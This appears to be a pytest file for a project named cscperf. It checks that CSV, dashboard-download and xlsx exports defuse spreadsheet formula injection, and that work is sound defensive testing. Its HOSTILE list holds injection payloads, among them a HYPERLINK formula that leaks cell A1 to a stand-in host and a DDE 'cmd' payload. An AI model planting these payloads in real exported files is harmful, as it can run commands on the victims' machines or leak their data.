"""Text written to xlsx or CSV is never a formula, whoever typed it (issue 15, OWASP's CSV
injection advice): hostile team, locality, comment and data values in every file cscperf writes
for spreadsheets."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import openpyxl
import polars as pl
import pytest

from cscperf.indicators.output import to_csv
from cscperf.sources.base import Problem, Severity
from cscperf.sources.report import write_csv
from cscperf.spreadsheet_safety import defuse, defuse_frame
from cscperf.web.views import csv_text

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    assert defuse(text) == "'" + text


@pytest.mark.parametrize("value", ["North Locality", "a=b", "", 3, -2.5, None])
def test_other_values_are_unchanged(value: object) -> None:
    assert defuse(value) == value


def test_frames_defuse_text_columns_and_leave_numbers() -> None:
    frame = pl.DataFrame({"team": ["=1+1", "Duty"], "value": [-1.5, 2.0]})
    out = defuse_frame(frame)
    assert out["team"].to_list() == ["'=1+1", "Duty"]
    assert out["value"].to_list() == [-1.5, 2.0]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _is_runnable(cell: str) -> bool:
    return cell.startswith(("=", "+", "@", "\t", "\r")) or (
        cell.startswith("-") and not _is_number(cell)
    )


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_indicator_csv_keeps_negative_numbers_and_defuses_team_names() -> None:
    rows = pl.DataFrame(
        {
            "indicator_id": ["x.count"] * len(HOSTILE),
            "period_end": [date(2025, 6, 30)] * len(HOSTILE),
            "breakdown": ["team"] * len(HOSTILE),
            "breakdown_value": HOSTILE,
            "numerator": [-3.0] * len(HOSTILE),
            "denominator": [None] * len(HOSTILE),
            "value": [-3.0] * len(HOSTILE),
        },
        schema_overrides={"denominator": pl.Float64},
    )
    cells = _cells(to_csv(rows))
    assert not [c for c in cells if _is_runnable(c)]
    assert "-3" in cells  # a negative number is still a number
    assert "'" + HOSTILE[0] in cells


def test_dashboard_download_defuses_text() -> None:
    frame = pl.DataFrame({"breakdown_value": HOSTILE, "value": [-1.0] * len(HOSTILE)})
    cells = _cells(csv_text(frame))
    assert not [c for c in cells if _is_runnable(c)]
    assert "-1.0" in cells


def test_data_quality_report_defuses_values_from_the_input(tmp_path: Path) -> None:
    problems = [
        Problem(
            file="ssd_person.csv",
            rule="bad-code",
            severity=Severity.ERROR,
            value=text,
            message="the code is not in the list",
        )
        for text in HOSTILE
    ]
    write_csv(problems, tmp_path / "report.csv")
    cells = _cells((tmp_path / "report.csv").read_text(encoding="utf-8"))
    assert not [c for c in cells if _is_runnable(c)]


def test_pack_workbook_has_no_formula_from_hostile_names(tmp_path: Path) -> None:
    from tests.reports.fixtures import fixture_pack

    from cscperf.reports.excel import write_workbook
    from cscperf.reports.html import collect

    pack = fixture_pack(localities=HOSTILE[:4], analysis=HOSTILE[0])
    path = tmp_path / "pack.xlsx"
    write_workbook(collect(pack, draw=False), path)
    book = openpyxl.load_workbook(path)
    texts = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    # The text arrives as people typed it (xlsx string cells need no apostrophe): the analysis
    # as a cell, the locality names in the RAG column headings of the summary.
    assert HOSTILE[0] in texts
    assert any(HOSTILE[3] in text for text in texts)
